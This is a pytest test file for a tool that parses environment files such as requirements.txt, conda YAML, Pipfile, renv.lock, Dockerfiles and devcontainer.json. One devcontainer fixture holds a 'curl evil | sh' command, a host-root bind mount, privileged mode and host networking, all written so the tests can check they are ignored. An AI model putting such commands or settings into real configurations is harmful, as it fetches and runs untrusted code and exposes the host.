"""The standard files of other tools, read as they are: which have a say, what they give, and what is said of the rest."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from workbench import context
from workbench.declare import Reading, load_standard
from workbench.declare.standard import leading, standard_files
from workbench.model.environment import EnvironmentSpec, PythonPart, RPart
from workbench.model.project import Project


def lay(folder: Path, files: Mapping[str, str]) -> Path:
    """A folder with these files."""
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def reading(folder: Path, files: Mapping[str, str] = {}, name: str = "") -> Reading[EnvironmentSpec]:
    """The environment of project `sales` with these files, by the one that leads or is named."""
    lay(folder, files)
    found = name or leading(folder)
    assert found, "no file leads"
    return load_standard(folder / found, project="sales", folder=folder)


def python(spec: EnvironmentSpec) -> PythonPart:
    """Its Python, which must be there."""
    assert spec.python
    return spec.python


def r(spec: EnvironmentSpec) -> RPart:
    """Its R, which must be there."""
    assert spec.r
    return spec.r


def said(found: Reading[EnvironmentSpec]) -> str:
    """All problems as people read them."""
    assert found.value is None, found.value
    return "\n".join(map(str, found.problems))


def noticed(found: Reading[EnvironmentSpec]) -> str:
    """All notices as people read them."""
    assert found.value is not None, found.problems
    return "\n".join(map(str, found.notices))


# -- which folder, which file ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("files", "lead"),
    [
        ({"requirements.txt": "a"}, "requirements.txt"),
        ({"requirements.txt": "a", "environment.yml": "dependencies: []"}, "environment.yml"),
        ({"requirements.txt": "a", "Pipfile": ""}, "Pipfile"),
        ({"requirements.txt": "a", "Dockerfile": "FROM x"}, "Dockerfile"),
        ({"requirements.txt": "a", "environment.yaml": "title: ours"}, "environment.yaml"),
        ({"binder/apt.txt": "git", "requirements.txt": "a", "Dockerfile": "FROM x"}, "binder/apt.txt"),
        ({".binder/start": "", "binder/postBuild": ""}, "binder/postBuild"),
        ({".binder/start": "", "apt.txt": "git"}, ".binder/start"),
        ({"binder/README": "", "apt.txt": "git", "environment.yaml": "title: ours"}, "environment.yaml"),
        ({"binder/README": "", "apt.txt": "git"}, None),
        ({"binder/requirements.txt": "a", "pyproject.toml": "[project]\nname='x'\n[build-system]"}, "binder/requirements.txt"),
        ({"pyproject.toml": "[tool.ruff]\nline-length = 100"}, None),
        ({"pyproject.toml": "[project]\nname='x'\ndependencies=['a']"}, "pyproject.toml"),
        ({"uv.lock": ""}, None),
        ({"uv.lock": "", "pyproject.toml": "[project]\nname='x'"}, "uv.lock"),
        ({"DESCRIPTION": "What this folder is about."}, None),
        ({"DESCRIPTION": "Package: mine\nVersion: 1.0"}, "DESCRIPTION"),
        ({".devcontainer/devcontainer.json": "{}", "requirements.txt": "a"}, "requirements.txt"),
        ({".devcontainer.json": "{}"}, ".devcontainer.json"),
        ({"Project.toml": ""}, None),
    ],
)  # fmt: skip
def test_which_file_leads(tmp_path: Path, files: dict[str, str], lead: str | None) -> None:
    """Ours before all; of `binder/`, `.binder/` and the folder itself one counts alone; then repo2docker's order."""
    assert leading(lay(tmp_path, files)) == lead


def test_what_is_found_is_listed(tmp_path: Path) -> None:
    """Those that count in their order, then what others read."""
    lay(tmp_path, {"apt.txt": "", "binder/apt.txt": "", "binder/start": "", "binder/Project.toml": ""})
    lay(tmp_path, {".devcontainer/devcontainer.json": ""})
    expected = ("binder/apt.txt", "binder/start", ".devcontainer/devcontainer.json", "binder/Project.toml")
    assert standard_files(tmp_path) == expected


def test_one_folder_has_the_say(tmp_path: Path) -> None:
    """What lies elsewhere is named as not read, and so is what nobody here reads."""
    files = {"binder/requirements.txt": "idna", "requirements.txt": "???", "apt.txt": "git", "binder/default.nix": ""}
    found = reading(tmp_path, files)
    assert found.get().name == "sales/binder/requirements.txt"
    assert python(found.get()).packages == ("idna",)
    assert found.get().apt == ()
    text = noticed(found)
    assert "requirements.txt is not read: binder/ has the say alone" in text
    assert "apt.txt is not read: binder/ has the say alone" in text
    assert "default.nix is not read: it is for nix" in text


def test_a_file_that_a_project_names_leads(tmp_path: Path) -> None:
    """Also where another would; files of other names are requirements."""
    lay(tmp_path, {"environment.yml": "dependencies: [gdal]", "requirements.txt": "idna", "apt.txt": "git"})
    lay(tmp_path, {"more/dev.txt": "iniconfig"})
    found = reading(tmp_path, name="requirements.txt")
    assert python(found.get()).packages == ("idna",)
    assert found.get().apt == ("git",)
    assert "environment.yml is not read: the project names requirements.txt" in noticed(found)
    other = reading(tmp_path, name="more/dev.txt").get()
    assert (other.name, python(other).packages, other.apt) == ("sales/more/dev.txt", ("iniconfig",), ())


def test_no_file_leaves_the_project(tmp_path: Path) -> None:
    """A link out of the folder is not followed, whatever kind of file it poses as."""
    (tmp_path / "secret.txt").write_text("token\n")
    for name in ("requirements.txt", "apt.txt", "postBuild", "install.R", "Dockerfile", "environment.yml", "renv.lock"):
        folder = tmp_path / name / "p"
        folder.mkdir(parents=True)
        (folder / name).symlink_to(tmp_path / "secret.txt")
        found = load_standard(folder / name, project="sales", folder=folder)
        assert "leads out of the project" in said(found), name
        assert "token" not in said(found), name
    folder = lay(tmp_path / "named" / "p", {"environment.yaml": "python: {requirements: ../../secret.txt}\n"})
    assert "leads out of the project" in said(reading(folder))


@pytest.mark.parametrize(
    ("files", "held"),
    [
        ({"requirements.txt": "-r more/base.txt", "more/base.txt": "idna", "apt.txt": "git", "notes.txt": ""},
         {"requirements.txt", "more/base.txt", "apt.txt"}),
        ({"binder/requirements.txt": "idna", "binder/start": "", "requirements.txt": ""}, {"binder"}),
        ({"pyproject.toml": "[project]\nname = 'x'\ndependencies = []\n", "uv.lock": "version = 1\n"},
         {"pyproject.toml", "uv.lock"}),
        ({"Dockerfile": "FROM x\n", "requirements.txt": "idna"}, {"Dockerfile"}),
        ({".devcontainer/devcontainer.json": '{"image": "x"}'}, {".devcontainer"}),
        ({"environment.yaml": "python: {requirements: dev.txt}", "dev.txt": "idna"}, {"environment.yaml", "dev.txt"}),
    ],
)  # fmt: skip
def test_what_was_read_is_what_containers_may_not_write(tmp_path: Path, files: dict[str, str], held: set[str]) -> None:
    """The files that make a project's environment are declared like its project.yaml; what nobody read is not."""
    spec = reading(tmp_path, files).get()
    places = Project("sales", tmp_path).declared(spec.files)
    assert {place.relative_to(tmp_path).as_posix() for place in places} == {"project.yaml", "schedules", "ides", *held}


# -- Python ------------------------------------------------------------------------------------------------------------


def test_requirements_with_all_that_goes_beside_them(tmp_path: Path) -> None:
    """One environment of requirements, Debian packages, a version, and scripts; each file is told what it gave."""
    files = {
        "requirements.txt": "idna\n-e ./lib[fast]\n", "lib/setup.py": "", "apt.txt": "# tools\ntree  figlet\n\n",
        "runtime.txt": "python-3.12\n", "postBuild": "#!/bin/sh\npython tools/make.py\n", "tools/make.py": "1",
        "start": '#!/bin/sh\nexec "$@"\n',
    }  # fmt: skip
    found = reading(tmp_path, files)
    spec = found.get()
    assert (spec.name, spec.slug) == ("sales/requirements.txt", "sales-requirements-txt")
    assert python(spec).version == "3.12"
    assert python(spec).packages == ("idna", "pip"), "scripts of this kind call pip"
    assert [(one.path, one.extras) for one in python(spec).local] == [(tmp_path / "lib", "[fast]")]
    assert spec.apt == ("tree", "figlet")
    assert spec.post_build
    assert spec.post_build.path == tmp_path / "postBuild"
    assert spec.start
    assert spec.context
    assert spec.context.folder == tmp_path
    assert "what postBuild writes into the project's folder is not seen in it" in noticed(found)
    assert spec.title == "From runtime.txt, requirements.txt, apt.txt, postBuild …"
    before = spec.fingerprint
    lay(tmp_path, {"notes.md": "x", "nb.ipynb": "{}"})
    assert reading(tmp_path).get().fingerprint == before, "what no file names shapes nothing"
    lay(tmp_path, {"tools/make.py": "2"})
    changed = reading(tmp_path).get().fingerprint
    assert changed != before, "a file that postBuild names does"
    lay(tmp_path, {"lib/new.py": "x"})
    assert reading(tmp_path).get().fingerprint != changed, "a package of the project does"


def test_what_post_build_calls_is_there(tmp_path: Path) -> None:
    """Tools that repo2docker's images have come from Debian, and that is said."""
    script = "#!/bin/bash\nset -e\necho git\nif true; then npm install -g x; fi; cd y && make\n# curl\nwget-not x\n"
    found = reading(tmp_path, {"postBuild": script, "apt.txt": "make\n"})
    assert found.get().apt == ("make", "npm")
    assert "it calls what comes from Debian: npm" in noticed(found)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("python-3.11.4", "3.11"),
        ("python-3", None),
        (" Python-3.12\n", "3.12"),
        ("r-4.4", None),
    ],
)
def test_runtimes(tmp_path: Path, text: str, expected: str | None) -> None:
    """`runtime.txt` names the minor version that Python gets."""
    spec = reading(tmp_path, {"runtime.txt": text, "requirements.txt": "idna"}).get()
    assert python(spec).version == expected


@pytest.mark.parametrize("text", ["", "python", "ruby-3", "r-2026-13-40", "python-3.12-2026-01-01", "r-4.1-1999-01-01"])
def test_runtimes_that_are_none(tmp_path: Path, text: str) -> None:
    """Said with the forms there are."""
    assert said(reading(tmp_path, {"runtime.txt": text}))


def test_an_old_python_comes_from_conda(tmp_path: Path) -> None:
    """Where no image has it any more, conda does; and it is said."""
    found = reading(tmp_path, {"runtime.txt": "python-3.6", "requirements.txt": "idna"})
    spec = found.get()
    assert spec.conda
    assert spec.conda.packages == ("python=3.6",)
    assert python(spec).packages == ("idna",)
    assert "Python 3.6 comes from conda" in noticed(found)


@pytest.mark.parametrize(
    ("requires", "expected"), [(">=3.9", None), (">=3.14", "3.14"), ("<3.12", "3.11"), ("~=3.10.2", "3.10")]
)
def test_a_python_that_the_project_goes_with(tmp_path: Path, requires: str, expected: str | None) -> None:
    """`requires-python` chooses one where the usual ones do not fit."""
    text = f'[project]\nname = "x"\nversion = "1"\nrequires-python = "{requires}"\n[build-system]\nrequires = []\n'
    spec = reading(tmp_path, {"pyproject.toml": text}).get()
    assert python(spec).version == expected
    assert [one.path for one in python(spec).local] == [tmp_path]


def test_a_pyproject_that_is_no_package_gives_its_dependencies(tmp_path: Path) -> None:
    """Nothing of the project itself is installed then; a Python that cannot be had is a problem."""
    spec = reading(tmp_path, {"pyproject.toml": "[project]\nname='x'\ndependencies=['idna>=3','iniconfig']\n"}).get()
    assert (python(spec).packages, python(spec).local) == (("idna>=3", "iniconfig"), ())
    wrong = reading(tmp_path, {"pyproject.toml": "[project]\nname='x'\nrequires-python='<3'\ndependencies=['a']"})
    assert "no Python that there is goes with requires-python '<3'" in said(wrong)


def test_a_lock_of_uv(tmp_path: Path) -> None:
    """It has the say over requirements; the project and its members are installed from their folders, as uv does."""
    lock = '[[package]]\nname = "x"\nsource = { editable = "." }\n\n[[package]]\nsource = { editable = "libs/y" }\n'
    files = {"uv.lock": lock, "pyproject.toml": "[project]\nname='x'\nrequires-python='>=3.9'\ndependencies=['idna']"}
    found = reading(tmp_path, {**files, "libs/y/pyproject.toml": "", "requirements.txt": "numpy"})
    spec = found.get()
    assert python(spec).lock
    assert python(spec).packages == ()
    assert [one.path for one in python(spec).local] == [tmp_path, tmp_path / "libs" / "y"]
    assert "requirements.txt is not read: uv.lock has the say" in noticed(found)
    assert python(reading(tmp_path, {".python-version": "3.12\n"}).get()).version == "3.12"


def test_pipenv(tmp_path: Path) -> None:
    """The lock before the Pipfile, development packages too, folders of the project as packages, and its Python."""
    pipfile = (
        "[[source]]\nurl = 'https://pypi.python.org/simple'\n[packages]\nidna = '*'\niniconfig = '>=2'\n"
        "mine = {path = '.', editable = true}\ngit = {git = 'https://x.example/g.git', ref = 'v1'}\n"
        "[dev-packages]\npluggy = {version = '==1.5', extras = ['dev'], markers = \"python_version > '3'\"}\n"
        "[requires]\npython_version = '3.12'\n"
    )
    found = reading(tmp_path, {"Pipfile": pipfile, "setup.py": "", "requirements.txt": "no"})
    part = python(found.get())
    assert part.packages == (
        "idna", "iniconfig>=2", "git @ git+https://x.example/g.git@v1", "pluggy[dev]==1.5 ; python_version > '3'",
    )  # fmt: skip
    assert ([one.path for one in part.local], part.version, part.index) == ([tmp_path], "3.12", None)
    assert "requirements.txt is not read: Pipfile has the say" in noticed(found)
    lock = {"_meta": {"requires": {}}, "default": {"idna": {"version": "==3.7"}}, "develop": {"pluggy": "==1.5.0"}}
    locked = python(reading(tmp_path, {"Pipfile.lock": json.dumps(lock)}).get())
    assert (locked.packages, locked.local, locked.version) == (("idna==3.7", "pluggy==1.5.0"), (), "3.12")
    assert "not JSON" in said(reading(tmp_path, {"Pipfile.lock": "{"}))


# -- conda -------------------------------------------------------------------------------------------------------------


def test_an_environment_yml_that_needs_no_conda(tmp_path: Path) -> None:
    """Python and pip packages alone are had without it; the file before requirements, `runtime.txt` without a say."""
    text = (
        "name: x\nchannels: [conda-forge]\ndependencies:\n  - python=3.12\n  - pip\n  - pip:\n    - pandas>=2\n"
        "    - -r more.txt\nvariables: {A: 1}\nprefx: y\n"
    )
    files = {"environment.yml": text, "more.txt": "scipy\n", "requirements.txt": "no\n", "runtime.txt": "python-3.9"}
    found = reading(tmp_path, files)
    spec = found.get()
    assert spec.conda is None
    assert python(spec).version == "3.12"
    assert python(spec).packages == ("pandas>=2", "scipy", "pip")
    assert spec.env == {"A": "1"}
    text = noticed(found)
    for words in ("requirements.txt is not read", "runtime.txt is not read", "'prefx' is not read"):
        assert words in text


def test_an_environment_yml_that_needs_conda(tmp_path: Path) -> None:
    """Then Python comes from there too, as it is asked for; what is no package is a problem with its line."""
    text = "dependencies:\n  - python>=3.10,<3.12\n  - conda-forge::gdal=3.8\n  - pip: [idna]\n"
    spec = reading(tmp_path, {"environment.yml": text}).get()
    assert spec.conda
    assert spec.conda.packages == ("python>=3.10,<3.12", "conda-forge::gdal=3.8")
    assert python(spec).packages == ("idna",)
    wrong = reading(tmp_path, {"environment.yml": "dependencies:\n  - g dal; rm\n  - pip: x\n  - [a]\n"})
    assert sorted(problem.line for problem in wrong.problems) == [2, 3, 4]


def test_an_environment_yaml_may_be_ours_or_condas(tmp_path: Path) -> None:
    """What it says decides, not its name."""
    conda = reading(tmp_path, {"environment.yaml": "dependencies: [python=3.12, {pip: [a]}]\n"}).get()
    ours = reading(tmp_path, {"environment.yaml": "python: {packages: [a]}\n"}).get()
    assert python(conda).packages == python(ours).packages == ("a",)


# -- R -----------------------------------------------------------------------------------------------------------------


def test_r_of_a_day(tmp_path: Path) -> None:
    """`runtime.txt` gives the version and the repository of that day; `install.R` is run."""
    spec = reading(tmp_path, {"install.R": "install.packages('digest')", "runtime.txt": "r-4.4-2025-06-13"}).get()
    part = r(spec)
    assert (part.version, part.repository) == ("4.4", "https://packagemanager.posit.co/cran/2025-06-13")
    assert part.script
    assert spec.python is None
    assert spec.context


def test_an_r_package(tmp_path: Path) -> None:
    """What it needs is installed, less what R has itself, and then it; remotes are named as not read."""
    text = "Package: mine\nVersion: 1.0\nDepends: R (>= 4.0), methods\nImports: digest (>= 0.6),\n    jsonlite, utils\nRemotes: a/b\n"
    found = reading(tmp_path, {"DESCRIPTION": text, "R/f.R": "f <- 1"})
    part = r(found.get())
    assert part.packages == ("digest", "jsonlite")
    assert part.local
    assert part.local.path == tmp_path
    assert "Remotes are not read: a/b" in noticed(found)


def test_a_lock_of_renv(tmp_path: Path) -> None:
    """R's version, and which packages come from elsewhere than a repository."""
    lock = {
        "R": {"Version": "4.4.2", "Repositories": [{"Name": "CRAN", "URL": "https://cran.example"}]},
        "Packages": {
            "digest": {"Package": "digest", "Version": "0.6.37", "Source": "Repository"},
            "mine": {"Package": "mine", "Version": "0.1", "Source": "GitHub"},
        },
    }
    found = reading(tmp_path, {"renv.lock": json.dumps(lock)})
    assert r(found.get()).version == "4.4.2"
    assert r(found.get()).lock
    assert "not from a repository: mine (GitHub)" in noticed(found)
    debian = reading(tmp_path, {"renv.lock": json.dumps({"R": {"Version": "4.5.2"}, "Packages": {}})})
    assert r(debian.get()).version == "4.5", "renv itself asks for no more than the minor version"
    assert "has no `Packages`" in said(reading(tmp_path, {"renv.lock": "{}"}))


# -- own images --------------------------------------------------------------------------------------------------------


def test_a_dockerfile_has_the_say_alone(tmp_path: Path) -> None:
    """Its context is the project; of that it counts what it copies, less what is ignored."""
    text = (
        "FROM debian:trixie-slim\nARG NB_UID\nARG OTHER=1\nCOPY tools/ /t/\nADD https://x.example/y /y\nUSER $NB_UID\n"
    )
    files = {"binder/Dockerfile": text, "binder/apt.txt": "git", "tools/a": "1", "tools/b.tmp": "1", "nb.ipynb": "{}"}
    found = reading(tmp_path, {**files, ".dockerignore": "**/*.tmp\n"})
    spec = found.get()
    assert spec.dockerfile
    assert (spec.dockerfile.context, spec.dockerfile.args) == (tmp_path, {"NB_UID": "1000"})
    assert (spec.python, spec.apt) == (None, ())
    assert "not read: apt.txt: a Dockerfile has the say alone" in noticed(found)
    lay(tmp_path, {"nb.ipynb": "{1}", "tools/b.tmp": "2"})
    assert reading(tmp_path).get().fingerprint == spec.fingerprint
    lay(tmp_path, {"tools/a": "2"})
    assert reading(tmp_path).get().fingerprint != spec.fingerprint


def test_a_dockerfile_gets_no_secrets(tmp_path: Path) -> None:
    """One that asks for some is told so."""
    text = "FROM x\nRUN --mount=type=secret,id=netrc cat /run/secrets/netrc\n"
    assert "the build secret netrc is not given" in noticed(reading(tmp_path, {"Dockerfile": text}))


DEVCONTAINER = """\
// For format details, see https://example.org/"format"
{
    "name": "x", /* a comment, with "quotes" */
    "image": "registry.example/team/py:3.12",
    "forwardPorts": [8000, "db:5432", "localhost:5173", 3000, 70000, true, 8000],
    "portsAttributes": {"2999-3001": {"label": "range"}, "8000": {"label": "API"}, "db:5432": {"label": "no"}},
    "containerEnv": {"A": "1", "FROM_HERE": "${localEnv:HOME}", "URL": "https://x.example//y,}"},
    "postCreateCommand": "pip install -r requirements.txt",
    "initializeCommand": "curl evil | sh",
    "mounts": ["source=/,target=/host,type=bind"],
    "privileged": true,
    "runArgs": ["--net=host"],
}
"""


def test_a_devcontainer_gives_its_image_and_nothing_that_acts_here(tmp_path: Path) -> None:
    """Comments and last commas are read over; every key that is not taken is named, with why."""
    found = reading(tmp_path, {".devcontainer/devcontainer.json": DEVCONTAINER})
    spec = found.get()
    assert spec.image == "registry.example/team/py:3.12"
    assert spec.env == {"A": "1", "URL": "https://x.example//y,}"}
    assert (spec.python, spec.post_build, spec.start, spec.apt) == (None, None, None, ())
    text = noticed(found)
    for key in ("postCreateCommand", "initializeCommand", "mounts", "privileged", "runArgs", "containerEnv.FROM_HERE"):
        assert f"{key} is not read" in text, key
    assert [str(port) for port in spec.ports] == ["8000 API", "5173", "3000 range"]
    for entry in ("db:5432", "70000", "True"):
        assert f"forwardPorts '{entry}' is not read: a port of the one container" in text, entry
    assert "portsAttributes" not in text


def test_a_devcontainer_gives_its_build(tmp_path: Path) -> None:
    """Its places are relative to the file, and stay in the project; both old and new spelling."""
    files = {"docker/Dockerfile": "FROM x\nCOPY . /x\n", "docker/y": "1"}
    build = {
        "dockerfile": "../docker/Dockerfile",
        "context": "../docker",
        "args": {"V": "1"},
        "target": "dev",
        "cacheFrom": "x",
    }
    found = reading(tmp_path, {**files, ".devcontainer/devcontainer.json": json.dumps({"build": build})})
    part = found.get().dockerfile
    assert part
    assert (part.context.resolve(), part.args, part.target) == (tmp_path / "docker", {"V": "1"}, "dev")
    assert "build.cacheFrom is not read" in noticed(found)
    old = {"dockerFile": "../docker/Dockerfile"}
    assert reading(tmp_path, {".devcontainer/devcontainer.json": json.dumps(old)}).get().dockerfile
    for wrong in (
        {"build": {"dockerfile": "none"}},
        {"build": {"dockerfile": "../docker/Dockerfile", "context": "../.."}},
    ):
        assert said(reading(tmp_path, {".devcontainer/devcontainer.json": json.dumps(wrong)}))
    for text in ("{", "[]", "{}", '{"image": "Bad Image"}', '{"dockerComposeFile": "x.yml"}'):
        assert said(reading(tmp_path, {".devcontainer/devcontainer.json": text})), text


@pytest.mark.parametrize(
    "name", ["requirements.txt", "apt.txt", "environment.yml", "Pipfile", "renv.lock", "install.R"]
)
def test_what_is_no_text_is_a_problem(tmp_path: Path, name: str) -> None:
    """Bytes that are no text, and files that are far too large, end no list."""
    (tmp_path / name).write_bytes(b"\xff\xff\x00\x81" * 100)
    assert said(reading(tmp_path))
    with (tmp_path / name).open("wb") as file:
        file.truncate(64 * 1024**2)
    assert said(reading(tmp_path))


@pytest.mark.parametrize(
    "files",
    [
        {"Dockerfile": "FROM x\nCOPY . /x\n"},
        {"requirements.txt": "-e .\n"},
        {"postBuild": "#!/bin/sh\npython a/0\n"},
        {"environment.yaml": "dockerfile: Dockerfile\n", "Dockerfile": "FROM x\nCOPY . /x\n"},
        {"environment.yaml": "python: {local: [.]}\n"},
    ],
)
def test_a_project_that_is_too_large_is_a_problem(
    tmp_path: Path, files: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """It ends no list; what to do about it is said."""
    monkeypatch.setattr(context, "MOST_FILES", 3)
    found = reading(tmp_path, {**files, **{f"a/{number}": "" for number in range(5)}})
    assert ".dockerignore" in said(found)


def test_requirements_as_powershell_writes_them(tmp_path: Path) -> None:
    """UTF-16 with its mark is text too."""
    (tmp_path / "requirements.txt").write_bytes("idna\r\niniconfig\r\n".encode("utf-16"))
    assert python(reading(tmp_path).get()).packages == ("idna", "iniconfig")
